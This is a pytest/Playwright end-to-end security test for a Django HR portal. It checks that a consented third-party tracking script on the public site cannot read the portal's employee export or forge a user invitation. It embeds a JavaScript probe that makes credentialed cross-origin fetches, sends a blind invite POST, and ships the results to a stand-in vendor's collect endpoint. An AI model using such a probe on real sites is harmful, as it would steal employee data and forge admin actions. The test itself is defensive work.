"""The reproduction of issue #12's finding, in chromium: a consented tracking script on the public site tries
to read the portal with a logged-in company admin's browser, and to act in the portal, and gets nothing.

The script is served by a stand-in vendor on its own origin (a compromised analytics vendor), declared by an
editor as a statistics script, and the visitor accepts all cookies. The same browser is logged in to the
portal on the app host. Each attempt (the app host's export with credentials, the public host's own path that
used to be the portal, a POST to invite a user) is reported to the vendor, so the test reads what an attacker
would have received.
"""

import json
from urllib.parse import parse_qs, urlsplit

import pytest
from django.conf import settings

from cms_pages.consent.models import TrackingScript
from cms_pages.demo import ensure_home
from hrportal.companies.models import Invitation
from hrportal.tenancy import company_scope
from tests.cms_pages.consent.helpers import publish_cookie_policy
from tests.conftest import make_admin
from tests.e2e.conftest import log_in, wait_until
from tests.factories import CompanyFactory, make_employee

PROBE = """
(async function () {
  const app = %(app)s;
  const vendor = %(vendor)s;
  async function attempt(label, url, options) {
    try {
      const response = await fetch(url, Object.assign({credentials: "include"}, options || {}));
      const text = await response.text();
      return {label, status: response.status, type: response.type, text: text.slice(0, 2000)};
    } catch (error) {
      return {label, error: String(error)};
    }
  }
  const results = [
    await attempt("app export", app + "/portal/employees/export.csv"),
    await attempt("app list", app + "/portal/employees/"),
    await attempt("public path", "/portal/employees/export.csv"),
    await attempt("invite, no-cors", app + "/portal/users/invite/", {
      method: "POST", mode: "no-cors",
      headers: {"Content-Type": "application/x-www-form-urlencoded"},
      body: "email=attacker%%40example.test&name=Attacker",
    }),
  ];
  window.probe_results = results;
  await fetch(vendor + "/collect?d=" + encodeURIComponent(JSON.stringify(results)), {mode: "no-cors"});
  window.probe_done = true;
})();
"""


@pytest.mark.django_db(transaction=True)
@pytest.mark.parametrize("two_origins", ["cross-site", "same-site"], indirect=True)
def test_a_consented_tracking_script_on_the_public_site_reads_nothing_from_the_portal(
    page, vendor, two_origins
):
    home = ensure_home()
    publish_cookie_policy(home)
    company = CompanyFactory(name="Offer ApS")
    admin = make_admin(company)
    make_employee(company, name="Karen Blixen", email="karen@example.test")
    src = vendor.script(
        "/stats.js", PROBE % {"app": json.dumps(settings.APP_ORIGIN), "vendor": json.dumps(vendor.origin)}
    )
    TrackingScript.objects.create(name="Statistik", category="statistics", src=src)

    # The company admin is logged in to the portal in this browser, and can read the export there.
    log_in(page, admin)
    page.goto(settings.APP_ORIGIN + "/portal/")
    own = page.evaluate("fetch('/portal/employees/export.csv').then((response) => response.text())")
    assert "Karen Blixen" in own

    # Then visits the public site and accepts all cookies: the vendor's script runs there.
    page.goto(settings.PUBLIC_ORIGIN + "/da/")
    wait_until(page, "document.querySelector('[data-consent-banner]').hidden === false")
    page.get_by_role("button", name="Accepter alle").click()
    wait_until(page, "window.probe_done === true")

    (collected,) = [path for path in vendor.requests if path.startswith("/collect")]
    results = {r["label"]: r for r in json.loads(parse_qs(urlsplit(collected).query)["d"][0])}
    assert "Karen Blixen" not in collected and "karen@example.test" not in collected
    # Cross-origin reads fail in the browser (no CORS), the public host's old path leads only to the app
    # host, and the POST the script could send blind was refused before any view ran.
    assert "error" in results["app export"] and "error" in results["app list"]
    assert "error" in results["public path"] or results["public path"].get("text", "") == ""
    assert results["invite, no-cors"].get("type") == "opaque" or "error" in results["invite, no-cors"]
    with company_scope(company):
        assert not Invitation.objects.filter(email="attacker@example.test").exists()

    # The public host never received the portal's cookies, and holds none of its own session.
    public_cookies = {c["name"] for c in page.context.cookies(settings.PUBLIC_ORIGIN)}
    app_cookies = {c["name"] for c in page.context.cookies(settings.APP_ORIGIN)}
    assert settings.SESSION_COOKIE_NAME in app_cookies
    assert not {settings.SESSION_COOKIE_NAME, settings.CSRF_COOKIE_NAME} & public_cookies


@pytest.mark.django_db(transaction=True)
def test_the_public_sites_csp_refuses_an_undeclared_script_and_inline_code(page, vendor):
    """What an editor did not declare does not run, not even a script element injected into the page."""
    ensure_home()
    declared = vendor.script("/ok.js", "window.declared_ran = true;")
    TrackingScript.objects.create(name="Declared", category="statistics", src=declared)
    page.goto(settings.PUBLIC_ORIGIN + "/da/")
    # An inserted inline script runs synchronously on insertion when allowed, so "ran" is known at once;
    # when refused, the browser reports the violation as an event: no waiting for something not to happen.
    outcome = page.evaluate(
        """() => new Promise((resolve) => {
          document.addEventListener("securitypolicyviolation",
            (event) => resolve({ran: window.inline_ran === true, refused: event.effectiveDirective}),
            {once: true});
          const inline = document.createElement("script");
          inline.text = "window.inline_ran = true;";
          document.head.appendChild(inline);
          if (window.inline_ran === true) resolve({ran: true, refused: null});
        })"""
    )
    assert outcome == {"ran": False, "refused": "script-src-elem"}
    csp = page.goto(settings.PUBLIC_ORIGIN + "/da/").headers["content-security-policy"]
    assert f"script-src 'self' {vendor.origin}" in csp and "unsafe-inline" not in csp
